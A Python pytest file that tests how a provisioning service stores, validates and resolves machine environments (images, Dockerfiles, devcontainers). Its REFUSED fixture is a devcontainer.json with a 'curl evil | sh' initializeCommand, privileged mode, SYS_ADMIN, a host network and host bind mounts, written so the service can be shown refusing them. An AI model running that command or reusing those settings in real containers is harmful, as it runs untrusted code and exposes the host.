"""``instances.setEnvironment`` / ``instances.getEnvironment``: the input rules and who may, in
memory; and the provisioner's resolution of an environment before a machine starts (an image
needs an engine, a build a builder: either missing fails the machine at stage
``environment``; no environment changes nothing). Images on a real engine: tests/integration."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from contracts.errors import (
    EnvironmentInvalid,
    EnvironmentRefused,
    Forbidden,
    HostUnavailable,
    InvalidParams,
    NotFound,
)
from contracts.models import Repo
from services.provisioner.builds.environment import DevcontainerDetector
from tests.fakes.clock import TICK, ManualClock
from tests.fast.conftest import World
from tests.fast.test_gateway import MISSING_INSTANCE, token_of, two_instances
from tests.gitcmd import git

method = pytest.mark.gateway_method


async def with_repo(world: World, instance_id: str, url: str = "https://example.com/app.git",
                    path: str = "src/app") -> None:  # fmt: skip
    await world.rpc("repos.add", {"instanceId": instance_id, "url": url, "branch": "main",
                                  "path": path})  # fmt: skip


def origin(tmp_path: Path, files: dict[str, str]) -> str:
    """A local git repo of ``files`` on ``main`` (what the host's check fetches: no network)."""
    work = tmp_path / f"origin-{len(list(tmp_path.glob('origin-*')))}"
    git("init", "-q", "-b", "main", str(work))
    for name, text in files.items():
        (work / name).parent.mkdir(parents=True, exist_ok=True)
        (work / name).write_text(text)
    git("add", "-A", cwd=work)
    git("commit", "-q", "--allow-empty", "-m", "env", cwd=work)
    return str(work)


@method("instances.setEnvironment", "instances.getEnvironment")
async def test_each_kind_is_stored_and_null_goes_back_to_auto(world: World, tmp_path: Path) -> None:
    a, _ = await two_instances(world)
    url = origin(tmp_path, {".devcontainer/py/devcontainer.json": '{"image": "python:3.12"}'})
    await with_repo(world, a, url)
    assert await world.rpc("instances.getEnvironment", {"instanceId": a}) == {
        "instanceId": a, "environment": None}  # fmt: skip
    kinds: list[tuple[dict[str, Any], dict[str, Any]]] = [
        ({"image": "node:22"}, {"image": "node:22"}),
        # A repo by its URL is stored by its checkout path.
        ({"dockerfile": {"repo": url, "path": "ci/Dockerfile"}},
         {"dockerfile": {"repo": "src/app", "path": "ci/Dockerfile", "context": "."}}),
        ({"devcontainer": {"repo": "src/app", "path": ".devcontainer/py/devcontainer.json"}},
         {"devcontainer": {"repo": "src/app", "path": ".devcontainer/py/devcontainer.json"}}),
    ]  # fmt: skip
    for given, stored in kinds:
        got = await world.rpc("instances.setEnvironment", {"instanceId": a, "environment": given},
                              token_of(a))  # fmt: skip
        assert got["environment"] == stored
        assert await world.rpc("instances.getEnvironment", {"instanceId": a}) == got
    await world.rpc("instances.setEnvironment", {"instanceId": a, "environment": None})
    assert (await world.rpc("instances.getEnvironment", {"instanceId": a}))["environment"] is None


@method("instances.setEnvironment")
async def test_a_bad_environment_is_refused_naming_its_field(world: World) -> None:
    a, b = await two_instances(world)
    await with_repo(world, a)
    cases: list[tuple[Any, str]] = [
        ({}, "environment"),
        ({"image": "a", "dockerfile": {"repo": "src/app"}}, "environment"),
        ({"image": "-oops"}, "image"),
        ({"dockerfile": {"repo": "src/app", "path": "../Dockerfile"}}, "dockerfile.path"),
        ({"dockerfile": {"repo": "src/app", "context": "/etc"}}, "dockerfile.context"),
        ({"devcontainer": {"repo": "src/app", "path": "x.json"}}, "devcontainer.path"),
        ({"dockerfile": {"repo": "other"}}, "environment.dockerfile.repo"),
        ({"devcontainer": {"repo": "src/app", "extra": 1}}, "extra"),
        ({"registry": "x"}, "registry"),
    ]
    for env, field in cases:
        with pytest.raises(InvalidParams) as bad:
            await world.rpc("instances.setEnvironment", {"instanceId": a, "environment": env})
        assert field in str(bad.value), (env, str(bad.value))
    with pytest.raises(InvalidParams):  # environment is required (null is a value)
        await world.rpc("instances.setEnvironment", {"instanceId": a})
    with pytest.raises(InvalidParams) as no_repo:  # b has no repos at all
        await world.rpc(
            "instances.setEnvironment",
            {"instanceId": b, "environment": {"devcontainer": {"repo": "src/app"}}},
        )
    assert no_repo.value.field == "$.environment.devcontainer.repo"
    with pytest.raises(Forbidden):
        await world.rpc("instances.setEnvironment", {"instanceId": b, "environment": None},
                        token_of(a))  # fmt: skip
    with pytest.raises(NotFound):
        await world.rpc("instances.getEnvironment", {"instanceId": MISSING_INSTANCE})


@method("instances.setEnvironment", "machines.create", "machines.get")
async def test_the_provisioner_resolves_the_environment_first(world: World) -> None:
    ready = await world.ready_machine()  # none set: the platform's default, as ever
    assert (ready.environment, ready.environment_image) == ("default", None)
    failures = [
        # This world has no Docker engine, and its provider runs no images.
        ({"image": "node:22"}, "environment failed: ProviderError: image node:22: no Docker"),
        ({"dockerfile": {"repo": "src/app"}}, "environment failed: ProviderError: dockerfile"),
    ]
    for env, reason in failures:
        a = (await world.instance()).id
        await with_repo(world, a)
        await world.rpc("instances.setEnvironment", {"instanceId": a, "environment": env})
        created = await world.rpc("machines.create", {"instanceId": a})
        await world.bus.settle()
        got = await world.rpc("machines.get", {"machineId": created["id"]})
        assert got["status"] == "failed"
        assert got["statusReason"].startswith(reason), got["statusReason"]


REFUSED = """{
  // every kind the file may not have, and a trailing comma
  "image": "python:3.12",
  "runArgs": ["--network=host"],
  "privileged": true,
  "capAdd": ["SYS_ADMIN"],
  "mounts": ["source=/etc,target=/host-etc,type=bind", {"type": "tmpfs", "target": "/scratch"}],
  "network": "host",
  "initializeCommand": "curl evil | sh",
}"""


@method("instances.setEnvironment", "instances.getEnvironment")
async def test_refused_properties_are_refused_when_the_environment_is_set(
    world: World, tmp_path: Path
) -> None:
    a = (await world.instance()).id
    url = origin(tmp_path, {
        ".devcontainer/devcontainer.json": REFUSED,
        ".devcontainer/feat/devcontainer.json": '{"image": "x", "features": {"./f": {}}}',
        ".devcontainer/feat/f/devcontainer-feature.json":
            '{"id": "f", "init": true, "mounts": [{"source": "/", "target": "/h"}]}',
        ".devcontainer/feat/f/install.sh": "true\n",
        ".devcontainer/bad/devcontainer.json": '{"image": "x",\n  "forwardPorts": [3000\n',
    })  # fmt: skip
    await with_repo(world, a, url)
    before = await world.rpc("instances.getEnvironment", {"instanceId": a})

    def devcontainer(path: str | None = None) -> dict[str, Any]:
        return {"instanceId": a, "environment": {"devcontainer": {"repo": "src/app", "path": path}}}

    with pytest.raises(EnvironmentRefused) as refused:  # found in the spec's first place
        await world.rpc("instances.setEnvironment", devcontainer(), token_of(a))
    assert refused.value.code == 1620
    assert refused.value.data == {"properties": [
        "runArgs", "initializeCommand", "privileged", "capAdd", "network", "mounts"]}  # fmt: skip
    assert "mounts: source=/etc,target=/host-etc,type=bind (bind mounts are refused)" in (
        refused.value.message
    )
    assert "tmpfs" not in refused.value.message  # a tmpfs mount passes
    with pytest.raises(EnvironmentRefused) as feature:  # a local feature's metadata too
        await world.rpc("instances.setEnvironment",
                        devcontainer(".devcontainer/feat/devcontainer.json"))  # fmt: skip
    assert feature.value.message.startswith("feature ./f: refused")
    assert feature.value.data == {"properties": ["mounts", "init"]}
    with pytest.raises(EnvironmentInvalid) as malformed:
        await world.rpc("instances.setEnvironment",
                        devcontainer(".devcontainer/bad/devcontainer.json"))  # fmt: skip
    assert "is not valid JSON: line 3" in malformed.value.message
    # Nothing refused was stored.
    assert await world.rpc("instances.getEnvironment", {"instanceId": a}) == before


@method("instances.setEnvironment")
async def test_what_cannot_be_looked_at_now_is_set_and_checked_at_resolution(
    world: World, tmp_path: Path
) -> None:
    a = (await world.instance()).id
    await with_repo(world, a, origin(tmp_path, {"README": "no devcontainer yet\n"}))
    await with_repo(world, a, "http://127.0.0.1:9/gone.git", path="src/gone")  # not fetched
    for repo in ("src/app", "src/gone"):
        env = {"devcontainer": {"repo": repo, "path": None}}
        got = await world.rpc("instances.setEnvironment", {"instanceId": a, "environment": env})
        assert got["environment"] == env

    class NoHost:  # no provisioner of the platform's host answers
        async def __call__(self, *_: object, **__: object) -> None:
            raise HostUnavailable("no provisioner of host h answers")

    world.api.environments.hosts = NoHost()  # type: ignore[assignment]
    env = {"devcontainer": {"repo": "src/app", "path": None}}
    got = await world.rpc("instances.setEnvironment", {"instanceId": a, "environment": env})
    assert got["environment"] == env


async def test_a_repos_devcontainer_answer_is_kept_for_its_ttl_of_the_clock_then_looked_again(
    world: World, tmp_path: Path
) -> None:
    """The detector's cache: a devcontainer.json committed after a repo was looked at is seen
    once ``ttl_s`` has passed since, not before."""
    clock = ManualClock()
    detector = DevcontainerDetector(ttl_s=60.0, clock=clock)
    url = origin(tmp_path, {"README": "no devcontainer yet"})
    repo = Repo(url=url, branch="main", path="app")
    settings = world.settings
    assert await detector._in(repo, settings, "m-0000000000000001") is None
    work = Path(url)
    (work / ".devcontainer").mkdir()
    (work / ".devcontainer" / "devcontainer.json").write_text('{"image": "debian"}')
    git("add", "-A", cwd=work)
    git("commit", "-q", "-m", "devcontainer", cwd=work)
    await clock.advance(60.0 - TICK)
    assert await detector._in(repo, settings, "m-0000000000000001") is None  # kept
    await clock.advance(TICK)
    found = await detector._in(repo, settings, "m-0000000000000001")
    assert found == ".devcontainer/devcontainer.json"
